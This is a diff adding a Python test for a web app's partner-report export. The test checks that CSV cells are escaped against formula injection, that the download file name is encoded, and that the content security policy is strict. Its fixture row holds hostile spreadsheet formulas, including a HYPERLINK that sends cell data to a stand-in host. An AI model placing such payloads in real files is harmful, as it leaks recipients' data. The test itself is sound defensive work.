@@ -9,6 +9,7 @@ import uuid
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import h3
 import numpy as np
@@ -258,6 +259,37 @@ def test_partner_report_formats(client: TestClient) -> None:
     assert csv_text.splitlines()[0].startswith("sortie_id,")
     page = client.get("/api/reports/partner", params={"party": "MEX", "format": "html"}, headers=h)
     assert page.headers["content-type"].startswith("text/html") and "MEX" in page.text
+
+
+def test_partner_report_csv_is_formula_safe_and_its_download_name_too(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import csv
+    import io
+
+    from atalaya.sovereignty import service
+
+    real = service.report
+
+    def with_hostile_cells(*args: Any, **kwargs: Any) -> Any:
+        rep = real(*args, **kwargs)  # a manifest's names and ids come from outside: put formulas in the CSV
+        path = rep.paths["csv"]
+        hostile = '=HYPERLINK("http://x.example/"&A1),2026-03-01,+cmd,@SUM(1),-2+3,"\tx","\rx",-12.5\r\n'
+        path.write_text(path.read_text(encoding="utf-8") + hostile, encoding="utf-8")
+        return rep
+
+    monkeypatch.setattr(service, "report", with_hostile_cells)
+    h = _login(client, "ana", "analyst-pass")
+    r = client.get("/api/reports/partner", params={"party": "mex", "format": "csv"}, headers=h)
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.text, newline="")))
+    assert rows[-1] == ["'=HYPERLINK(\"http://x.example/\"&A1)", "2026-03-01", "'+cmd", "'@SUM(1)", "'-2+3", "'\tx",
+                        "'\rx", "-12.5"]  # fmt: skip
+    cd = r.headers["content-disposition"]
+    assert cd.count("filename=") == 1 and "filename*=UTF-8''compliance-MEX.csv" in cd
+    page = client.get("/api/reports/partner", params={"party": "MEX", "format": "html"}, headers=h)
+    assert "'unsafe-inline'" not in page.headers["content-security-policy"]
+    assert "style-src 'sha256-" in page.headers["content-security-policy"]
 
 
 def test_liaison_sees_only_released_items_and_each_release_is_logged(client: TestClient, workspace: Workspace) -> None:
